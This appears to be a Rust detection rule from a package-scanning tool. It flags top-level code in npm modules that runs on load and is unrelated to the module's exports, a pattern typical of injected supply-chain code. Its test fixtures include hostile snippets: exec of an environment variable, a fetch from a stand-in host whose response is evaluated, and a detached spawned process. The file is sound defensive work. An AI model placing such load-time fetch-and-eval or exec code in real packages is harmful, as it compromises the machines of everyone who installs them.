//! Code that was put beside a module, not into it.

use super::{Context, Declaration, Example, Finding};
use crate::model::{Confidence, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "foreign-body",
    title: "Holds code that has no business with the module around it",
    severity: Severity::Medium,
    summary: "At the top level of a module stands code that takes nothing from the module and gives nothing to what it exports, and that talks to the network, starts programs, runs text as code or writes files as soon as the module is loaded. Code that somebody else added to a published module looks like this.",
    advice: "Compare the file with the one in the repository, or with the version before. Read the lines that are shown: what they do when the module is loaded is all that they are for. If that cannot be explained, do not install it. If it already ran, treat the machine as taken over: revoke the tokens that were on it, and look for what was left behind.",
    benign_when: "A module that starts something for its users when it is loaded, such as a check for updates, and says so.",
    references: &["CWE-506", "T1195.002", "T1554"],
    examples: &[
        Example {
            name: "a function appended behind the exports",
            severity: Some(Severity::Medium),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const chars = "abc";
module.exports = (at) => chars[at];
(function () { require("child_process").exec(process.env.RUN_ME); })();"#,
                ),
            ],
        },
        Example {
            name: "one of two builds has it",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","exports":{"require":"./dist/i.cjs","import":"./dist/i.mjs"}}"#,
                ),
                (
                    "dist/i.cjs",
                    r#"exports.add = (a, b) => a + b;
fetch("https://collect.invalid/").then((r) => r.text()).then(eval);"#,
                ),
                ("dist/i.mjs", r#"export const add = (a, b) => a + b;"#),
            ],
        },
        Example {
            name: "a side effect import of a file that gives nothing",
            severity: Some(Severity::Medium),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"require("./setup");
exports.add = (a, b) => a + b;"#,
                ),
                (
                    "setup.js",
                    r#"const { spawn } = require("child_process");
spawn("node", ["x.js"], { detached: true });"#,
                ),
            ],
        },
        Example {
            name: "a module that uses what it starts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process");
let version = "";
try { version = execSync("git --version").toString(); } catch {}
exports.version = () => version;"#,
                ),
            ],
        },
        Example {
            name: "a script that exports nothing",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process");
console.log(execSync("git status").toString());"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for one in context.foreign {
        let writes_only = one.acts.iter().all(|id| id.starts_with("fs."));
        let path = context.archive.path(one.file);
        let acts = one.acts.join(", ");
        let what = match one.loads {
            Some(file) => {
                let file = context.archive.path(file);
                format!("{path} loads {file} for nothing but what that does: {acts}")
            }
            None => format!("code in {path} has nothing to do with the module around it: {acts}"),
        };
        let message = match one.twin {
            Some(twin) => {
                let twin = context.archive.path(twin);
                format!("{what}; {twin}, the same module, does without")
            }
            None => what,
        };
        // How many real packages do this is not counted yet: alone it asks for a look.
        let severity = match one.twin {
            Some(_) if !writes_only => Severity::High,
            _ => Severity::Medium,
        };
        let mut evidence: Vec<_> = one.places().collect();
        evidence.sort_unstable();
        found.push(Finding {
            what: &FINDING,
            severity,
            confidence: if one.twin.is_some() {
                Confidence::High
            } else {
                Confidence::Medium
            },
            message,
            reach: one.reach,
            evidence,
            mitigations: Vec::new(),
            parts: vec![one.acts.join(" ")],
        });
    }
}
